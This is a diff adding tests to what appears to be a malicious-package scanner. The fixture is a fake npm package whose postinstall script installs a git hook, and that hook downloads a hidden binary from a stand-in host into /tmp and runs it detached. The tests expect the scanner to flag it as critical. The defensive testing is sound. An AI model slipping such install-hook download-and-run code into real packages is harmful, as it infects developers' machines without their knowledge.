@@ -631,3 +631,52 @@ describe('round 73: the hooks folder git reports is the project own', () => {
     expect(strong(r)).toEqual([]);
   });
 });
+
+describe('a git hook written in JavaScript that loads the package by its name', () => {
+  const files = (rules: string) => ({
+    'package.json': JSON.stringify({
+      name: 'lintkeep',
+      version: '1.2.0',
+      main: 'lib/index.js',
+      scripts: { postinstall: 'node scripts/hooks.js' },
+    }),
+    'scripts/hooks.js': [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      "const hooks = path.join(process.env.INIT_CWD || process.cwd(), '.git', 'hooks');",
+      "fs.writeFileSync(path.join(hooks, 'post-merge'), \"#!/usr/bin/env node\\nrequire('lintkeep/lib/sync').pull();\\n\", { mode: 0o755 });",
+    ].join('\n'),
+    'lib/index.js': "module.exports = require('./sync');\n",
+    'lib/sync.js': rules,
+  });
+
+  it('what the function it calls does is read as code that runs on its own', () => {
+    const r = analyzeSource(
+      files(
+        [
+          "const https = require('https');",
+          "const fs = require('fs');",
+          "const { spawn } = require('child_process');",
+          "exports.pull = () => https.get('https://sync.lintkeep-cdn.example/agent', (res) => {",
+          "  const out = fs.createWriteStream('/tmp/.lk-agent', { mode: 0o755 });",
+          '  res.pipe(out);',
+          "  out.on('finish', () => spawn('/tmp/.lk-agent', [], { detached: true, stdio: 'ignore' }).unref());",
+          '});',
+        ].join('\n'),
+      ),
+    );
+    expect(r.risk_level).toBe('critical');
+    expect(
+      threats(r).find((f) => f.file === 'scripts/hooks.js' && f.rule === 'js.drop-and-run'),
+    ).toBeDefined();
+  });
+
+  it('a hook that only reads the rules file stays quiet', () => {
+    const r = analyzeSource(
+      files(
+        "const fs = require('fs');\nexports.pull = () => JSON.parse(fs.readFileSync('.lintkeep.json', 'utf8'));\n",
+      ),
+    );
+    expect(strong(r)).toEqual([]);
+  });
+});
